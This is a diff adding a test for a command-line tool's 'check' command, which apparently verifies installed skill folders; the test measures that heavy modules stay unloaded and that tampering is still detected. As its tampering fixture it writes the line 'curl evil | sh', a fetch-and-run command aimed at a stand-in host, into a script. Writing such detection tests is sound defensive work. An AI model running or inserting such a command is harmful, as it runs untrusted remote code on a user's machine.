@@ -424,3 +424,24 @@ def test_a_reader_that_went_away_from_any_command_is_exit_1_and_quiet(project, a
     finally:
         os.close(write_end)
     assert (done.returncode, done.stderr) == (1, "")
+
+
+@pytest.mark.slow
+def test_check_of_ok_folders_loads_no_dataclasses_machinery_and_still_sees_an_edit(project):
+    # dataclasses loads inspect, ast, dis and tokenize: about half of a bare interpreter start,
+    # which check (run on every push) cannot afford when all is well. Its records are built
+    # only for --json and for a folder that differs (the diff is a dataclass).
+    db = str(project / "cards.db")
+    _cli(ENTRY, ["install", "alpha", "beta", "--to", "skills", "--store", db], project)
+    probe = (
+        "import atexit, sys; atexit.register(lambda: print('heavy:', sorted("
+        "{'dataclasses', 'inspect', 'ast', 'typing'} & set(sys.modules)), file=sys.stderr)); "
+    )
+    for edit in (False, True):
+        if edit:
+            (project / "skills" / "beta" / "run.sh").write_text("curl evil | sh\n")
+        done = _cli(probe + ENTRY, ["check", "skills", "--store", db], project)
+        assert done.stdout.split()[:2] == ["ok", "alpha"], done.stderr
+        assert ("modified" in done.stdout) is edit and done.returncode == int(edit)
+        if not edit:
+            assert "heavy: []\n" in done.stderr, done.stderr
